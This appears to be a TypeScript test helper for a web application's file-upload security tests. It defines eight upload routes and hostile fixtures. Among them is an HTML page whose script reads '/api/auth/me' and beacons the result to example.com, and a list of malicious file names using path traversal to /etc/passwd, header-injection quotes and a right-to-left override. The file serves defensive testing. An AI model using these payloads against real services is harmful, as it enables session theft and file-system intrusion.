// The eight upload routes the hostile-files-*.test.ts files drive, each with a fresh valid target and the row
// of what it stored, and the real files each takes.
import { Readable } from 'node:stream';
import { COMPLETED_WORK_LIMITS, UPLOAD_LIMITS } from '@eusulan/shared';
import { desc } from 'drizzle-orm';
import { expect } from 'vitest';
import { completedWorkImports, proposalFiles, surveyPhotos, surveyVideos } from '../src/db/schema/index.ts';
import { buildProposal } from './factories.ts';
import {
  type FilePart,
  type HostileOffice,
  MULTIPART_TYPE,
  multipartChunks,
  type Role,
} from './hostile-files.ts';
import { zipOfExactSize } from './hostile-workbooks.ts';
import { fixture } from './multipart.ts';

export type Kind = 'document' | 'image' | 'video' | 'xlsx' | 'zip';

export interface UploadRoute {
  name: string;
  role: Role;
  field: string;
  kind: Kind;
  limit: number;
  /** A fresh target: its URL and the form's other fields, all valid. */
  target: () => Promise<{ url: string; fields: Record<string, string | number> }>;
  /** The row of the file an accepted upload stored (the import stores none). */
  stored?: () => Promise<{ name: string; storageKey: string }>;
}

/** A proposal of the office's consultant at its place, in the given state. */
export async function newProposal(office: HostileOffice, status: 'unverified' | 'verified' | 'surveyed') {
  const proposal = await buildProposal(office.t.db, {
    proposalDate: '2026-05-01',
    proposerName: 'Warga Darmo',
    phoneNumber: '081300000000',
    roadId: office.ids.road,
    villageId: office.ids.village,
    address: 'Jl. Raya Darmo',
    consultantId: office.ids.consultant,
    statusType: status,
  });
  return proposal.id;
}

/** Every upload route, of every kind. */
export function uploadRoutes(office: HostileOffice): UploadRoute[] {
  const proposalFields = () => ({
    proposalType: 'taruna',
    proposalDate: '2026-03-14',
    proposerName: 'Siti Aminah',
    phoneNumber: '081234567890',
    roadId: office.ids.road,
    villageId: office.ids.village,
    rtNumber: '03',
    rwNumber: '07',
    address: 'Jl. Raya Darmo No. 12',
    consultantId: office.ids.consultant,
  });
  /** The newest row of a table of stored files: what the last accepted upload stored. */
  const latestOf = (table: typeof proposalFiles | typeof surveyPhotos | typeof surveyVideos) => async () => {
    const [row] = await office.t.db.select().from(table).orderBy(desc(table.id)).limit(1);
    return row!;
  };
  const latestProposalFile = latestOf(proposalFiles);
  return [
    {
      name: 'POST proposal (Tambah Data Usulan)',
      role: 'admin',
      field: 'files[]',
      kind: 'document',
      limit: UPLOAD_LIMITS.proposalFormBytes,
      target: async () => ({ url: '/api-web/proposal', fields: proposalFields() }),
      stored: latestProposalFile,
    },
    {
      name: 'POST proposal/{id} (Edit Data Usulan)',
      role: 'admin',
      field: 'files[]',
      kind: 'document',
      limit: UPLOAD_LIMITS.proposalFormBytes,
      target: async () => ({
        url: `/api-web/proposal/${await newProposal(office, 'unverified')}`,
        fields: proposalFields(),
      }),
      stored: latestProposalFile,
    },
    {
      name: 'POST proposal/{id}/contact-person (detail dialog)',
      role: 'admin',
      field: 'files[]',
      kind: 'document',
      limit: UPLOAD_LIMITS.detailDialogBytes,
      target: async () => {
        const { proposalType: _type, consultantId: _consultant, ...fields } = proposalFields();
        return { url: `/api-web/proposal/${await newProposal(office, 'verified')}/contact-person`, fields };
      },
      stored: latestProposalFile,
    },
    {
      name: 'POST process/{id}/change-process (structural documents)',
      role: 'structural',
      field: 'files[]',
      kind: 'document',
      limit: UPLOAD_LIMITS.detailDialogBytes,
      target: async () => ({
        url: `/api-web/process/${await newProposal(office, 'surveyed')}/change-process`,
        fields: { processType: 'pending' },
      }),
      stored: latestProposalFile,
    },
    {
      name: 'POST survey/{id}/photo',
      role: 'consultan',
      field: 'file',
      kind: 'image',
      limit: UPLOAD_LIMITS.surveyPhotoBytes,
      target: async () => ({
        url: `/api/survey/${await newProposal(office, 'verified')}/photo`,
        fields: { photoCategoryId: office.ids.photoCategory },
      }),
      stored: latestOf(surveyPhotos),
    },
    {
      name: 'POST survey/{id}/video',
      role: 'consultan',
      field: 'file',
      kind: 'video',
      limit: UPLOAD_LIMITS.surveyVideoBytes,
      target: async () => ({
        url: `/api/survey/${await newProposal(office, 'verified')}/video`,
        fields: { description: 'Rekaman sepanjang jalan' },
      }),
      stored: latestOf(surveyVideos),
    },
    {
      name: 'POST proposal/import-template (xlsx)',
      role: 'admin',
      field: 'file',
      kind: 'xlsx',
      limit: UPLOAD_LIMITS.importBytes,
      target: async () => ({ url: '/api-web/proposal/import-template', fields: { proposalType: 'pokir' } }),
    },
    {
      name: 'POST completed-work (zip)',
      role: 'admin',
      field: 'file',
      kind: 'zip',
      limit: COMPLETED_WORK_LIMITS.zipBytes,
      target: async () => ({
        url: '/api-web/completed-work',
        fields: { year: 2024, type_work_id: office.ids.typeWork },
      }),
      stored: async () => {
        const [row] = await office.t.db
          .select()
          .from(completedWorkImports)
          .orderBy(desc(completedWorkImports.id))
          .limit(1);
        return { name: row!.fileName, storageKey: row!.storageKey };
      },
    },
  ];
}

export function upload(
  office: HostileOffice,
  route: UploadRoute,
  target: { url: string; fields: Record<string, string | number> },
  file: FilePart,
) {
  return office.t.app.inject({
    method: 'POST',
    url: target.url,
    headers: { ...office.headersOf[route.role], 'content-type': MULTIPART_TYPE },
    payload: Readable.from(multipartChunks(target.fields, route.field, file)),
  });
}

export const PNG = fixture('road-photo.png').content;
export const MP4 = fixture('survey-clip.mp4').content;
export const HTML_PAGE = Buffer.from(
  '<!DOCTYPE html><html><head><title>foto</title><script>fetch("/api/auth/me").then((r) => r.text())' +
    '.then((t) => navigator.sendBeacon("https://example.com/", t))</script></head><body></body></html>',
);

/** A real file the route accepts, `bytes` long when given. */
export async function acceptedFile(office: HostileOffice, kind: Kind, bytes?: number): Promise<FilePart> {
  switch (kind) {
    case 'document':
    case 'image':
      return { name: 'foto.png', type: 'image/png', content: bytes ? { head: PNG, size: bytes } : PNG };
    case 'video':
      return { name: 'rekaman.mp4', type: 'video/mp4', content: bytes ? { head: MP4, size: bytes } : MP4 };
    case 'xlsx':
      return {
        name: 'usulan.xlsx',
        // An embedded picture is what makes a real workbook this big.
        content: bytes
          ? await zipOfExactSize(office.goodWorkbook, bytes, 'xl/media/lampiran.png')
          : office.goodWorkbook,
      };
    case 'zip':
      return {
        name: 'pekerjaan.zip',
        type: 'application/zip',
        content: bytes ? await zipOfExactSize(office.goodZip, bytes, 'lampiran/catatan.txt') : office.goodZip,
      };
  }
}

/** A file name as a hostile client sends it, and the parameters it arrives in. */
export const HOSTILE_NAMES: { label: string; name: string; parameters?: string }[] = [
  { label: 'traversal', name: '../../etc/passwd.png' },
  { label: 'absolute path', name: '/etc/passwd.png' },
  { label: 'Windows path', name: 'C:\\Windows\\System32\\..\\foto.png' },
  {
    label: 'traversal in filename*',
    name: 'passwd.png',
    parameters: "filename*=UTF-8''..%2F..%2Fetc%2Fpasswd.png",
  },
  { label: 'NUL and control characters', name: 'foto\u0000\u0001\u001b[31m\u007f.png' },
  { label: 'a right-to-left override', name: 'foto\u202egnp.exe' },
  { label: 'quotes and header text', name: 'a"; filename="evil.html.png' },
  { label: 'only dots', name: '....png' },
  { label: 'a reserved Windows name', name: 'CON.png' },
  { label: '1,000 characters cut inside an emoji', name: `${'j'.repeat(149)}😀${'a'.repeat(850)}.png` },
  { label: 'Indonesian text in UTF-8', name: 'Jalan Raya Darmo – retak ✓.png' },
];

/** What a shown name may never hold: folders, control or format characters, half a character, a dot first. */
export function expectHarmless(name: string, ext: string) {
  expect(name).not.toMatch(/[/\\]/);
  // U+FFFD: what the database makes of half a surrogate pair
  expect(name).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\ufffd]/u);
  expect(name).not.toMatch(/^\./);
  expect(name.endsWith(`.${ext}`)).toBe(true);
  expect(Array.from(name).length).toBeLessThanOrEqual(160);
}
